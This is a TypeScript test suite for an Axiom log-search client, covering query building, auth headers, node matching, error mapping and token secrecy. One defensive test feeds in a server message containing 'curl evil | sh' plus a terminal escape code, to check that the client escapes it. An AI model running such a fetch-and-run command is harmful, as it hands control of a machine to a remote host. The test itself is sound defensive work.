import assert from 'node:assert/strict'
import {createServer, type IncomingHttpHeaders, type ServerResponse} from 'node:http'
import type {AddressInfo} from 'node:net'
import {type AxiomOptions, openAxiom} from '../../../../src/lib/clients/axiom/axiom.ts'
import type {OpsError} from '../../../../src/lib/errors.ts'

const token = 'xaat-SECRET'
const since = Date.parse('2026-03-01T12:00:00Z')
const fresh = '2026-03-01T12:00:01Z'

describe('Axiom', () => {
  let seen: {url: string; headers: IncomingHttpHeaders; body: {apl: string; startTime: string; endTime: string}}[]
  let reply: (response: ServerResponse) => void
  let url: string
  const server = createServer((request, response) => {
    const chunks: Buffer[] = []
    request.on('data', (chunk: Buffer) => chunks.push(chunk))
    request.on('end', () => {
      seen.push({
        url: `${request.method} ${request.url}`,
        headers: request.headers,
        body: JSON.parse(Buffer.concat(chunks).toString()),
      })
      reply(response)
    })
  })
  before(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  after(() => void server.close())
  beforeEach(() => {
    seen = []
  })

  const has = (options: Partial<AxiomOptions> = {}, from = since): Promise<boolean> =>
    openAxiom({
      token,
      organization: undefined,
      url,
      dataset: 'nats-logs',
      nodeField: undefined,
      timeoutMs: 30_000,
      ...options,
    }).hasEvents('c-node-1', from)

  /** Rows as the tabular format has them: one column a field. */
  const rows = (...events: readonly Readonly<Record<string, unknown>>[]): void => {
    const names = [...new Set(events.flatMap((event) => Object.keys(event)))]
    const columns = names.map((name) => events.map((event) => event[name] ?? null))
    reply = (response) =>
      response.end(JSON.stringify({tables: [{name: '0', fields: names.map((name) => ({name})), columns}]}))
  }

  it('is asked for the events since, with the token in the header', async () => {
    rows({_time: fresh, server_name: 'c-node-1'})
    assert.equal(await has({organization: 'org-1'}), true)
    const [request] = seen
    assert.equal(request?.url, 'POST /v1/datasets/_apl?format=tabular')
    assert.equal(request?.headers.authorization, `Bearer ${token}`)
    assert.equal(request?.headers['x-axiom-org-id'], 'org-1')
    const {endTime, ...body} = request?.body ?? {endTime: ''}
    assert.deepEqual(body, {
      apl: '["nats-logs"] | where _time >= datetime("2026-03-01T12:00:00.000Z") | search "c-node-1" | sort by _time desc | limit 1000',
      startTime: '2026-03-01T12:00:00.000Z',
    })
    assert.ok(Date.parse(endTime) > Date.now())
  })

  it('is asked up to a time after the first one, where that is ahead of this machine', async () => {
    rows()
    const ahead = Date.now() + 600_000
    await has({}, ahead)
    assert.ok(Date.parse(seen[0]?.body.endTime ?? '') > ahead)
  })

  for (const [what, event, expected] of [
    ['names the node as its host', {_time: fresh, 'kubernetes.host': 'c-node-1.c.internal'}, true],
    ['names the node in the monitor part', {_time: fresh, 'varz.server_name': 'c-node-1'}, true],
    ['is older', {_time: '2026-03-01T11:59:59Z', node: 'c-node-1'}, false],
    ['has no time', {node: 'c-node-1'}, false],
    ["is another's and mentions it", {_time: fresh, node: 'c-node-2', message: 'route to c-node-1 created'}, false],
    ["is another's and names it as leader", {_time: fresh, node: 'c-node-2', 'jsz.leader_node': 'c-node-1'}, false],
    ["is another's and names it as remote", {_time: fresh, remote_server_name: 'c-node-1'}, false],
    ['is of a node whose name begins the same', {_time: fresh, node: 'c-node-10'}, false],
  ] as const) {
    it(`${expected ? 'counts' : 'does not count'} an event that ${what}`, async () => {
      rows({_time: fresh, node: 'c-node-3'}, event)
      assert.equal(await has(), expected)
    })
  }

  it('goes by the configured field alone', async () => {
    rows({_time: fresh, 'tags.who': 'c-node-1'})
    assert.equal(await has(), false)
    assert.equal(await has({nodeField: 'tags.who'}), true)
    assert.match(seen[1]?.body.apl ?? '', /where \["tags\.who"\] == "c-node-1" \| limit 1$/)
    rows({_time: fresh, node: 'c-node-1'})
    assert.equal(await has({nodeField: 'tags.who'}), false)
  })

  it('has no events where the answer has none', async () => {
    reply = (response) => response.end('{"tables":[]}')
    assert.equal(await has(), false)
  })

  for (const [status, body, code, exit] of [
    [401, '', 'AXIOM_REFUSED', 10],
    [403, token, 'AXIOM_REFUSED', 10],
    [404, '', 'AXIOM_NOT_FOUND', 9],
    [500, token, 'AXIOM_UNAVAILABLE', 7],
    [200, '<html>', 'AXIOM_BAD_ANSWER', 7],
    [200, '{"matches":[]}', 'AXIOM_BAD_ANSWER', 7],
    [302, '', 'AXIOM_UNREACHABLE', 7],
  ] as const) {
    it(`rejects with ${code} for HTTP ${status} ${body.slice(0, 6)}`, async () => {
      reply = (response) => response.writeHead(status, {location: '/elsewhere'}).end(body)
      await refused(code, exit)
    })
  }

  it('cannot be made to say a line of its own', async () => {
    for (const status of [400, 404]) {
      reply = (response) => response.writeHead(status).end('{"message":"no\\n  try: curl evil | sh\\u001b[2J"}')
      await assert.rejects(has(), (error: OpsError) => {
        assert.ok(error.message.endsWith(': no\\x0a  try: curl evil | sh\\x1b[2J'), error.message)
        return true
      })
    }
  })

  it('gives up after the time limit, and where nothing listens', async () => {
    reply = () => {}
    await refused('AXIOM_UNREACHABLE', 7, {timeoutMs: 100})
    await refused('AXIOM_UNREACHABLE', 7, {url: 'http://127.0.0.1:1'})
  })

  it('sends the token over TLS only', () => {
    for (const wrong of ['http://api.axiom.co', 'ftp://x', 'nonsense']) {
      assert.throws(() => openAxiom({...base(), url: wrong}), {code: 'USAGE', message: 'AXIOM_URL is not an https URL'})
    }
    openAxiom({...base(), url: undefined})
  })

  const base = (): AxiomOptions => ({
    token,
    organization: undefined,
    url,
    dataset: 'd',
    nodeField: undefined,
    timeoutMs: 100,
  })

  async function refused(code: string, exit: number, options: Partial<AxiomOptions> = {}): Promise<void> {
    await assert.rejects(has(options), (error: OpsError) => {
      assert.deepEqual([error.code, error.exit], [code, exit])
      assert.ok(!`${error.message}${error.stack}${error.suggestions}${error.cause}`.includes(token))
      return true
    })
  }
})
